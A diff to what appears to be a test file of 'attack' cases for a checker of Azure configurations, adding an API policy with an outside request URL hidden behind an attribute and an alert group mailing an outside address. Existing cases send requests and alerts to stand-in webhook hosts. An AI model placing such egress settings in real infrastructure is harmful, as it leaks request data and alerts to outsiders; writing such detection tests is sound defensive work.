@@ -108,6 +108,9 @@ ATTACKS = (
     _attack("API policy that copies requests to the web",
             _policy("<policies><inbound><send-one-way-request><set-url>https://hooks.example.de/x</set-url>"
                     "</send-one-way-request></inbound></policies>")),
+    _attack("API policy whose address has an attribute",
+            _policy('<policies><inbound><send-request mode="new"><set-url xml:space="preserve">https://x.example.de'
+                    "</set-url></send-request></inbound></policies>")),
     _attack("API policy that computes its backend",
             _policy("<policies><inbound><set-backend-service base-url=\"@(&quot;htt&quot; + context.Variables[0])\" />"
                     "</inbound></policies>")),
@@ -128,6 +131,9 @@ ATTACKS = (
             _azure("monitor:ActionGroup", location="global", groupShortName="g", enabled=True, tags=TAGS,
                    webhookReceivers=[{"name": "ok", "serviceUri": "https://10.0.0.4/x"},
                                      {"name": "w", "serviceUri": "https://hooks.example.de/x"}])),
+    _attack("alerts go to a mailbox of a stranger",
+            _azure("monitor:ActionGroup", location="global", groupShortName="g", enabled=True, tags=TAGS,
+                   emailReceivers=[{"name": "ops", "emailAddress": "ops@example.ae.example.com"}])),
     _attack("scaling notifies a webhook abroad",
             _azure("monitor:AutoscaleSetting", location="uaenorth", profiles=[], tags=TAGS, enabled=True,
                    notifications=[{"operation": "Scale", "webhooks": [{"serviceUri": "https://hooks.example.de"}]}])),
